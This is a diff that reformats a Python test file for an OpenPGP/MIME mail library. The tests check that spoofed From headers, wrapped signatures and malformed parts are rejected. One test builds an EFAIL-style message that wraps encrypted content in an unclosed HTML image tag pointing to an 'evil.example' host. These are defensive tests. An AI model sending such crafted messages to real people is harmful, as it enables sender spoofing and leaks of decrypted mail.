@@ -84,8 +84,12 @@ def test_an_altered_signed_letter_is_bad():
     [
         lambda m: m.replace(b"From: Alice <alice@openpgp.example>", b"From: eve@example.org", 1),
         lambda m: m.replace(b"From: Alice", b"From: eve@example.org\r\nFrom: Alice", 1),
-        lambda m: m.replace(b"From: Alice <alice@openpgp.example>", b"From: eve@example.org, alice@openpgp.example", 1),
-        lambda m: m.replace(b"From: Alice <alice@openpgp.example>", b'From: "bob@openpgp.example" <eve@example.org>', 1),
+        lambda m: m.replace(
+            b"From: Alice <alice@openpgp.example>", b"From: eve@example.org, alice@openpgp.example", 1
+        ),
+        lambda m: m.replace(
+            b"From: Alice <alice@openpgp.example>", b'From: "bob@openpgp.example" <eve@example.org>', 1
+        ),
         lambda m: m.replace(b"From: Alice <alice@openpgp.example>", b"From: alice", 1),
         lambda m: m.replace(b"From: Alice <alice@openpgp.example>\r\n", b"", 1),
     ],
@@ -116,7 +120,7 @@ def test_a_captured_letter_beside_foreign_text_stays_closed():
     html = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
     mixed = (
         b"From: eve@example.org\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n" + html
-        + b"\r\n--m\r\n" + inner + b"\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n"
+        + b"\r\n--m\r\n" + inner + b'\r\n--m\r\nContent-Type: text/html\r\n\r\n">\r\n--m--\r\n'
     )  # fmt: skip
     assert incoming.look(mixed, True) is Look.PASS
     shown = people.open_(mixed)
@@ -126,14 +130,20 @@ def test_a_captured_letter_beside_foreign_text_stays_closed():
 
 def test_a_signed_part_beside_foreign_text_signs_nothing():
     inner = SIGNED[SIGNED.index(b"Content-Type: multipart/signed") :]
-    mixed = b"From: alice@openpgp.example\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nPay Eve.\r\n--m\r\n" + inner + b"\r\n--m--\r\n"
+    mixed = (
+        b"From: alice@openpgp.example\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nPay Eve.\r\n--m\r\n"
+        + inner
+        + b"\r\n--m--\r\n"
+    )
     assert facts(people.open_(mixed)) == ("none", "none", "none")
 
 
 def test_a_signature_over_ciphertext_does_not_make_its_maker_the_author():
     """Bob puts his signature round Alice's unsigned sealed letter (Davis, USENIX ATC 2001)."""
     entity = UNSIGNED[UNSIGNED.index(b"Content-Type: multipart/encrypted") :]
-    signer = stream.DetachedSigner(people.SECRETS[BOB].signing(people.NOW), engine=people.ENGINE, created=people.NOW)
+    signer = stream.DetachedSigner(
+        people.SECRETS[BOB].signing(people.NOW), engine=people.ENGINE, created=people.NOW
+    )
     signer.feed(entity)
     frame = pgpmime.signed_head(b"s", signer.micalg) + entity + pgpmime.signed_middle(b"s") + signer.finish()
     outer = b"From: bob@openpgp.example\r\n" + frame + pgpmime.signed_tail(b"s")
@@ -145,7 +155,12 @@ def test_a_signature_over_ciphertext_does_not_make_its_maker_the_author():
 @pytest.mark.parametrize(
     ("change", "finding"),
     [
-        (lambda m: m.replace(b"Content-Type: multipart", b"Content-Type: text/plain\r\nContent-Type: multipart", 1), "ambiguous"),
+        (
+            lambda m: m.replace(
+                b"Content-Type: multipart", b"Content-Type: text/plain\r\nContent-Type: multipart", 1
+            ),
+            "ambiguous",
+        ),
         (lambda m: m.replace(b"Version: 1", b"Version: 2"), "malformed-encrypted"),
         (lambda m: m.replace(b"-----END PGP MESSAGE", b"-----FIN PGP MESSAGE"), "malformed-openpgp"),
         (lambda m: m[: len(m) // 2], "malformed-encrypted"),
